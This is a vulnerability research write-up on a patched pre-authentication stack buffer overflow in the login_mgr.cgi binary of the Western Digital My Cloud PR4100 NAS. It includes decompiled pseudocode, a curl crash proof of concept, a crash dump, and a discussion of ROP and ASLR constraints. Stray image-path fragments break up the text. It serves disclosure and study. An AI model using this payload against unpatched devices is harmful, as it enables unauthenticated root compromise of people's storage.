Pwn2Own: A Tale of a Bug Found and Lost Again

P2own Blog 1060x698

In October 2020, the Pwn2Own Tokyo 2020 announcement caught our attention. Even though originally we hadn’t planned to participate, we checked out the target list and decided to take a look at one of the targets to see where that would lead us. Since some on the team had worked on similar devices in the past, we chose the Western Digital My Cloud Pro Series PR4100 NAS. While eagerlywaiting for the device to arrive, our researchers decided to download the device firmware from the vendor’s website and begin investigating. Shortly after we started looking into the firmware, we identified a powerful pre-authentication stack-based buffer overflow bug, which turned out to be interesting to exploit on the actual device.

However, while we were able to identify two reliable exploitation methods, Western Digital released the initial public version 5.04.114 of My Cloud OS 5 on October 27, 2020. Among other major changes, that version no longer used the vulnerable code we had looked into. With only about a week left until Pwn2Own, we decided not to submit our research and to consider participation in the next iteration, giving us a bit more lead time.

Nevertheless, we still wanted to make sure that the bug was indeed fixed properly, so we contacted the Western Digital Product Security Incident Response Team (PSIRT), which quickly confirmed that they were already aware of the issue and that it had been addressed in the latest version 5.04.114 of the firmware.

The following provides more details on the vulnerability, some of the challenges that had to be overcome, and how reliable exploitation was found to be possible before the issue was addressed in the latest firmware version.


Product My Cloud Pro Series PR4100
Affected Firmware Versions (without claim for completeness) 2.31.204 (2019-12-16)
2.40.155 (2020-07-28)
2.40.157 (2020-10-20)
Fixed Firmware Version 5.04.114 (2020-10-27)
CVE No CVE assigned
Root Cause Stack-based Buffer Overflow in login_mgr.cgiImpact Unauthenticated Remote Code Execution (RCE) as root
SHA256 Hash of Vulnerable login_mgr.cgi c565243660ddfd1778c8d4a56191880f547780f53cc11e50c4d3b20fadd01247
Researchers Hanno Heinrichs, Lukas Kupczyk
Advanced Research Team, CrowdStrike Intelligence
Western Digital Resources

Attack Surface Enumeration

When assessing the attack surface of a device, one of the first steps is to enumerate its exposed network services. The following list shows services with opened TCP/UDP listeners running on the device:

root@MyCloudPR4100 root # netstat -tulpn
Active Internet connections(only servers)
Proto Local Address           Foreign Address State  PID/Program name
tcp   *       LISTEN 3320/httpd
tcp*       LISTEN 4131/cnid_metad
tcp   *       LISTEN 4073/smbd
tcp*       LISTEN 3746/upnp_nas_devic
tcp   *       LISTEN 4130/afpd
tcp  *       LISTEN 3941/mysqld
tcp   *       LISTEN 4073/smbd
tcp    *       LISTEN 3320/httpd
tcp  *       LISTEN 1609/restsdk-server
tcp    *       LISTEN 2761/sshd
tcp6  :::445                  :::*            LISTEN 4073/smbd
tcp6  :::139                  :::*            LISTEN 4073/smbd
tcp6  :::22                   :::*            LISTEN 2761/sshd
udp  *              3746/upnp_nas_devic
udp *              2076/mserver
udp*              4077/nmbd
udp*              4077/nmbdudp*              4077/nmbd
udp*              4077/nmbd
udp   *              4077/nmbd
udp*              4077/nmbd
udp*              4077/nmbd
udp*              4077/nmbd
udp*              4077/nmbd
udp   *              4077/nmbd
udp *              3808/apkg
udp   *              1958/syslogd
udp*              3985/wdmcserver
udp*              3746/upnp_nas_devic
udp *              2481/avahi-daemon:
udp  *              2481/avahi-daemon:

While it would be justifiable to conduct an in-depth analysis of each service, we quickly prioritized functionality that is reachable through the device’s Apache HTTP daemon. Due toApache itself being quite a hardened target, we focused on device-specific functionality implemented through either custom modules or CGI binaries.

The configuration file /usr/local/modules/web/apache2/conf/alias.conf contains a directive that instructs Apache to source its CGI binaries for the URL path /cgi-bin/ from the local directory /var/www/cgi-bin/

root@MyCloudPR4100 root # cat /usr/[...]/apache2/conf/mods-enabled/alias.conf
<IfModule alias_module>
     ScriptAlias /cgi-bin/ /var/www/cgi-bin/

However, direct access to /cgi-bin/ is restricted by the configuration file rewrite.conf, which uses mod_rewrite to redirect requests that do not originate from localhost to the PHP script located at /web/cgi_api.php. The only exception to this rule is the webpipe.cgi binary, which can be accessed directly.

root@MyCloudPR4100 root # cat /usr/[...]/conf/mods-enabled/rewrite.conf
<IfModule rewrite_module>
              RewriteEngine on[...]       RewriteRule ^/xml/(.*) /cgi-bin/webpipe.cgi
[...]      <Directory "/var/www/cgi-bin/">
                 RewriteCond %{REMOTE_ADDR} !^127\.0\.0\.1$
                 RewriteCond $1 !^abFiles$
                 RewriteRule ^(\w*).cgi$ /web/cgi_api.php?cgi_name=$1&%{QUERY_STRING} [L]

Thus, direct access to most of the CGI binaries is denied for remote users. Instead, access to them is controlled by the PHP script cgi_api.php, which acts as a proxy between remote users and CGI binaries and enforces access restrictions. Each HTTP request is evaluated based on its corresponding PHP session and forwarded to the respective CGI binary in case the session is deemed eligible.

For example, authenticated administrative users can accessarbitrary CGI binaries, while unauthenticated users can only access login_mgr.cgi, which implements the device’s main authentication mechanism. This circumstance heavily reduces the attack surface, as the Pwn2Own contest rules clearly state that exploits must either be pre-authentication or include an authentication bypass. With the only CGI candidates left being webpipe.cgi and login_mgr.cgi, we had to focus on these, as the PHP CGI wrapper script did not exhibit any obvious vulnerabilities.

It was found that webpipe.cgi conducts further access checks that are not likely bypassed. Hence, most of its code is not reachable for unauthenticated users. However, we were able to identify a vulnerability in the CGI binary login_mgr.cgi that could be triggered by unauthenticated remote users.


The CGI binary login_mgr.cgi implements multiple routines related to the login process. Individual routines can be accessed by providing the POST or GET parameter cmd. For example, the login routine can be invoked by providing the value wd_login as the cmd parameter.The wd_login() routine at address 0x402980 uses the two parameters username and pwd to validate the authentication attempt, and then it composes an HTTP response containing the result in XML. One peculiarity of the implementation is the fact that the password parameter pwd must be provided in Base64 encoding. The relevant pseudo code is shown below (CGI binary did not contain symbols; functions were named after their perceived purpose during analysis):

  char username[32];    // [rsp+50h] [rbp-11B8h] BYREF
>  char pwd_decoded[64]; // [rsp+90h] [rbp-1178h] BYREF
  char pwd_b64[256];    // [rsp+D0h] [rbp-1138h] BYREF
  cgiFormString("username", username, 32LL);
  cgiFormString("pwd", pwd_b64, 256LL);
  base64decode(pwd_decoded, pwd_b64, 256);
  pos_dbl_slash = index(username, '\\');
  if ( !pos_dbl_slash )
>    if ( is_username_allowed(username) )
      login_successful = check_login(username, pwd_decoded);

All buffers (username, pwd_b64, pwd_decoded) are allocated on the stack in the frame of the wd_login() function. The cgiFormString() function copies the username and pwd HTTP parameters into their respective stack buffers, username and pwd_b64. Afterward, the base64decode() function takes the Base64-encoded password (pwd_b64) and stores the decoded result in the pwd_decoded buffer.

Internally, glibc’s b64_pton() function is used for decoding. However, b64_pton() is calledincorrectly: The size of the target buffer pwd_decoded is specified as 256 bytes, while only 64 bytes have been allocated for it, which is likely a result of confusing the sizes of the target and source buffers at the call site.

From the stack layout, it is apparent that the pwd_decoded buffer is located before the pwd_b64 buffer. In Base64 encoding, three bytes of data are mapped to fourcharacters of the Base64 alphabet and vice versa. Therefore, a string of 256 Base64 characters can contain up to 192 bytes of decoded data:

256 characters * ¾ bytes/characters = 192 bytes

In the case of login_mgr.cgi, the Base64-decoded data can overflow 128 bytes into the pwd_b64 source buffer. After that, the pwd_b64 buffer is no longer used by wd_login() and a potential out-of-bounds write does not affectthe further execution of the program.

After Base64-decoding the password, the function checks the username against a list of disallowed usernames. If the check succeeds, the function check_login() is invoked with the username and the Base64-decoded password as its arguments (address 0x404480). The relevant pseudo code of the function check_login() is shown below:

  char password_copy_shadow[80]; // [rsp+ 0h] [rbp-C8h] BYREF
  char password_copy_input[88];  // [rsp+50h] [rbp-78h] BYREF

  f_shadow = fopen64("/etc/shadow", "r");
  while ( 1 )
    pwent = fgetpwent(f_shadow);
    if ( !pwent )
    if ( !strcmp(pwent->pw_name, username) )
      strcpy(password_copy_shadow, pwent->pw_passwd);
      strcpy(password_copy_input, pwd_decoded);

The file /etc/shadow is read line by line until an entry with a matching username isfound. At that point, the password hash from the entry in the shadow file is copied to the stack-based buffer password_copy_shadow using strcpy(). Similarly, the Base64-decoded password that was provided as part of the request is copied from pwd_decoded to the stack-based buffer password_copy_input using the same function.

Due to the potential overflow during the Base64 decoding, the memory pointed to by pwd_decoded can contain up to 192 bytes of decoded data. The target buffer password_copy_input has a fixed size of 88 bytes and is adjacent to the saved registers and the saved return address of check_login(). Thus, the invocation of strcpy() with the Base64-decoded password as its source can result in an out-of-bounds write of up to 104 bytes into adjacent memory. In case of check_login(), thisallows overwriting the saved registers and its return address. A proof of concept that triggers this vulnerability is shown below:

$ curl -i -d \
 'cmd=wd_login&username=admin&pwd='`python -c 'print("X"*256)'`

HTTP/1.1 500 Internal Server Error

The request results in segmentation fault of the login_mgr.cgi binary:

Program received signal SIGSEGV, Segmentation fault.
0x00000000004044e6 in ?? ()
───[ REGISTERS ]───
 RAX  0x0
*RBX  0xd7755dd7755dd775
*RCX  0x4a
*RDX  0x4
*RDI  0x607540 ◂— '$1$$bgT/jMUE9hqiA19BpcmCM0'
*RSI  0x7fffffffd590 ◂— '$1$$JnmDdozMe7jLVzJ1cGFHU.'
*R8   0xffff
*R9   0x6971683945554d6a ('jMUE9hqi')
*R10  0x7fffffffd140 ◂— 0x0
*R11  0x7ffff60af6a0 (free) ◂— mov    rax, qword ptr [rip + 0x325801] *R12  0x5dd7755dd7755dd7
*R13  0xd7755dd7755dd775
 R14  0x0
 R15  0x0
*RBP  0x755dd7755dd7755d
*RSP  0x7fffffffd658 ◂— 0x755dd7755dd7755d
*RIP  0x4044e6 ◂— ret


In the previous section, we described a stack-based buffer overflow vulnerability that can be triggeredremotely as an unauthenticated user. In this section, we take a closer look at the vulnerability and discuss the difficulties we encountered on our way to successful exploitation.

The NAS system is based on a 64-bit x86 CPU architecture and uses a Linux 4.1 kernel:

root@MyCloudPR4100 root # uname -a

Linux MyCloudPR4100 4.1.13 #1 SMP Mon Jun 29 00:11:44 PDT 2020 Build-git249a60f x86_64 GNU/Linux

Further analysis of the CGI binary login_mgr.cgi using file and checksec shows that it was compiled as a 64-bit executable and that compiler hardening flags such as stack canaries and position-independent code/executable (PIC/PIE) are disabled while non-executable memory (NX/DEP) is enabled:

$ file login_mgr.cgi
login_mgr.cgi: ELF 64-bit LSB executable, x86-64, version 1 (SYSV), dynamically linked, interpreter /lib64/, for GNU/Linux 2.6.39, stripped
$ checksec --file=login_mgr.cgi
RELRO            STACK CANARY      NX            PIE           RPATH
No RELRO         No canary found   NX enabled    No PIE        No RPATH

RUNPATH      Symbols      FORTIFY  Fortified     Fortifiable   FILE
No RUNPATH   No Symbols   No       0             10            login_mgr.cgi

The address space layout randomization (ASLR) security mechanism of the kernel is enabled on the target device, meaning that the stack, the VDSO page, heap segments and libraries will be located at unknown addresses after process creation.

root@MyCloudPR4100 root # cat /proc/sys/kernel/randomize_va_space

Return-oriented programming (ROP) is a technique commonly used for defeating non-executable memory restrictions. Since login_mgr.cgi is not a position-independent executable, it will always be mapped at a fixed address, so that ROP gadgets can be sourced convenientlyfrom it. In the given case, the CGI will always be mapped at the base address 0x400000.

There is one caveat, however: On the x86_64 architecture, the two most significant bytes of a 64-bit user-space address will inevitably be null bytes. The strcpy() function, which eventually carries out the out-of-bounds write operation, will stop at the first occurrence of a null byte in the source buffer. This means that at most one user-space address can be written to the stack, preventing usfrom using a ROP chain with multiple gadget addresses. Luckily, we can still make the CPU return to one attacker-controlled user-space address upon return from check_login().

The following stack diagram illustrates the program’s states when triggering the vulnerability:

(Click image to enlarge)

To recap, overflowing pwd_decoded with Base64-decoded password data (1) allows us to pass an overly long password to check_login(). Thisattacker-supplied password may exceed check_login()’s password_copy_input buffer size, and we are therefore able to overwrite the function’s saved registers and its return address (2). Thereby, we can redirect theprogram’s control flow by supplying the address of a ROP gadget at an offset where it ends up overwriting check_login()’s return address (3).

